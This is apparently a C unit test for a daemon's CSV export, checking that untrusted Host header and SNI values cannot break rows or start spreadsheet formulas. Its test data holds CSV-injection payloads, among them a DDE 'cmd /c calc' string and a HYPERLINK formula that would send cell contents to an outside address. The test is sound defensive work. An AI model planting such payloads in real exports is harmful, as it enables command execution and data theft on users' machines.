/*
 * test_csv.c - the CSV writer (daemon/api/csv.c) against the values a LAN
 * host can put in a Host header or an SNI: each row read back by Python's
 * csv module has exactly its columns, every value comes back whole, and
 * none starts like a formula unless it begins with the guarding quote.
 */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <jansson.h>

#include "csv.h"
#include "tap.h"

static const char *const hostile[] = {
	"-x,=2*3,=cmd|' /c calc'!a0,y",
	"=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"click\")",
	"+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@x",
	"   =1+1", " -2", "\xef\xbc\x9d" "1+1", " \xef\xbc\x8b" "1", "\xef\xbc\xa0" "x",
	"\xef\xbc\x8d" "1", "a,b", "a\"b\"c", "\"=1\"", "'=1", "x\r\ny", "normal.example.com",
	"教育局", "",
};
#define N (sizeof(hostile) / sizeof(hostile[0]))

/* What the cell must read: the text, behind a ' when it looks like a formula. */
static void expected(const char *v, char *buf, size_t len)
{
	snprintf(buf, len, "%s%s", zl_csv_formula_like(v) ? "'" : "", v);
}

static int starts_formula(const char *c)
{
	return *c && (strchr("=+-@\t\r\n", *c) || !strncmp(c, "\xef\xbc", 2));
}

int main(void)
{
	char path[] = "/tmp/zl-csv-XXXXXX", cmd[600], want[256];
	const char *py = getenv("PYTHON3") ? getenv("PYTHON3") : "python3";
	int fd = mkstemp(path);
	FILE *f = fdopen(fd, "w"), *p;
	json_error_t je;
	json_t *rows, *row;
	size_t i, k;

	/* three columns a row: the value, a number, the value again */
	zl_csv_bom(f);
	for (i = 0; i < N; i++) {
		zl_csv_text(f, hostile[i]);
		zl_csv_sep(f);
		zl_csv_number(f, (long long)i - 3);
		zl_csv_sep(f);
		zl_csv_text(f, hostile[i]);
		zl_csv_end_row(f);
	}
	fclose(f);
	snprintf(cmd, sizeof(cmd), "%s -c 'import csv, json, sys; print(json.dumps(list("
		 "csv.reader(open(sys.argv[1], newline=\"\", encoding=\"utf-8-sig\")))))' %s",
		 py, path);
	p = popen(cmd, "r");
	rows = p ? json_loadf(p, 0, &je) : NULL;
	if (p)
		pclose(p);
	unlink(path);
	ok(json_is_array(rows), "Python's csv reads the file back");
	is_int(json_array_size(rows), N, "one row per record (no value splits a row)");
	json_array_foreach(rows, i, row) {
		if (i >= N)
			break;
		expected(hostile[i], want, sizeof(want));
		is_int(json_array_size(row), 3, "row %zu: 3 columns", i);
		is_str(json_string_value(json_array_get(row, 0)), want, "row %zu: the value, whole", i);
		is_str(json_string_value(json_array_get(row, 2)), want, "row %zu: again after a number", i);
		snprintf(want, sizeof(want), "%lld", (long long)i - 3);
		is_str(json_string_value(json_array_get(row, 1)), want, "row %zu: the number", i);
		for (k = 0; k < 3; k += 2)
			ok(!starts_formula(json_string_value(json_array_get(row, k))),
			   "row %zu col %zu: does not start like a formula", i, k);
	}
	/* what must be guarded, and what must not */
	ok(zl_csv_formula_like("=1") && zl_csv_formula_like("  @x") && zl_csv_formula_like("\t1") &&
	   zl_csv_formula_like("\xef\xbc\x8b" "1"), "= @ tab + (full-width) are formula starters");
	ok(!zl_csv_formula_like("a=1") && !zl_csv_formula_like("x-y.example") &&
	   !zl_csv_formula_like("") && !zl_csv_formula_like("  ") && !zl_csv_formula_like("'=1"),
	   "text that does not start a formula is left as it is");
	json_decref(rows);
	return done_testing();
}
